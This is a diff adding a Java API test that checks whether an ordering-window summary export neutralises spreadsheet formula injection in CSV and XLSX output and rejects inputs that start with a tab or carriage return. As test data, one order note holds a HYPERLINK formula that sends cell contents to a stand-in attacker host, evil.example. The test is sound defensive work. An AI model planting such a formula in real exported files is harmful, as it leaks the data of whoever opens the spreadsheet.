@@ -95,4 +95,56 @@ class SummaryTest {
         Api.resident().as().get("/api/ordering-windows/" + window + "/summary").then().spec(problem(403, "FORBIDDEN"));
         staff.as().get("/api/ordering-windows/" + UUID.randomUUID() + "/summary").then().spec(problem(404, "WINDOW_NOT_FOUND"));
     }
+
+    @Test
+    void cellsThatASpreadsheetWouldRunAsFormulasAreWrittenAsText() throws Exception {
+        Api.User admin = Api.districtAdmin();
+        OrgFixture org = OrgFixture.streetToHousehold(admin);
+        Api.User staff = Api.withRole(Role.COMMUNITY_STAFF, org.community());
+        List<String> starts = List.of("=", "+", "-", "@");
+        Map<String, String> expected = new HashMap<>();
+        List<UUID> products = new java.util.ArrayList<>();
+        for (String start : starts) {
+            products.add(OrderFixture.product(staff, org, start + "SUM(1+1)包" + Api.unique(""), 3));
+        }
+        UUID window = OrderFixture.openWindow(staff, org, Map.of(products.get(0), 10, products.get(1), 10, products.get(2), 10,
+                products.get(3), 10));
+        for (int i = 0; i < starts.size(); i++) {
+            String room = starts.get(i) + "1+" + Api.unique("2");
+            String joinCode = staff.as().body(Map.of("room", room)).post("/api/buildings/" + org.buildingId() + "/households")
+                    .then().statusCode(201).extract().path("joinCode");
+            Api.User resident = Api.resident();
+            resident.as().body(Map.of("joinCode", joinCode)).post("/api/me/household").then().statusCode(200);
+            String note = starts.get(i) + "HYPERLINK(\"http://evil.example/?\"&A2&B2,\"点此确认\")";
+            resident.as().header("Idempotency-Key", "n").body(Map.of("windowId", window, "items",
+                    List.of(Map.of("productId", products.get(i), "quantity", 1)), "note", note)).post("/api/orders")
+                    .then().statusCode(201);
+            expected.put(room, note);
+        }
+        String csv = staff.as().accept("text/csv").get("/api/ordering-windows/" + window + "/summary").then().statusCode(200)
+                .extract().asString();
+        List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv.substring(1))).getRecords();
+        assertEquals(starts.size(), records.size());
+        for (CSVRecord r : records) {
+            String room = r.get(1).substring(1);
+            assertEquals("'" + room, r.get(1), "room");
+            assertTrue(r.get("商品 Product").startsWith("'") && starts.contains(r.get("商品 Product").substring(1, 2)), r.toString());
+            assertEquals("'" + expected.get(room), r.get(5), "note");
+        }
+        byte[] xlsx = staff.as().get("/api/ordering-windows/" + window + "/summary?format=xlsx").then().statusCode(200)
+                .extract().asByteArray();
+        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
+            wb.getSheets().toList().get(0).read().stream().skip(1)
+                    .forEach(r -> assertEquals(expected.get(r.getCellText(1)), r.getCellText(5), "XLSX cells stay plain strings"));
+        }
+        // A tab or carriage return never reaches a sheet: such text is refused where it is typed.
+        for (String control : List.of("\t=1+1", "\r=1+1")) {
+            staff.as().body(Map.of("room", control)).post("/api/buildings/" + org.buildingId() + "/households")
+                    .then().spec(problem(400, "VALIDATION_FAILED"));
+            OrderFixture.household(staff, org).as().header("Idempotency-Key", "t").body(Map.of("windowId", window, "items",
+                    List.of(Map.of("productId", products.get(0), "quantity", 1)), "note", control)).post("/api/orders")
+                    .then().spec(problem(400, "VALIDATION_FAILED"));
+        }
+    }
 }
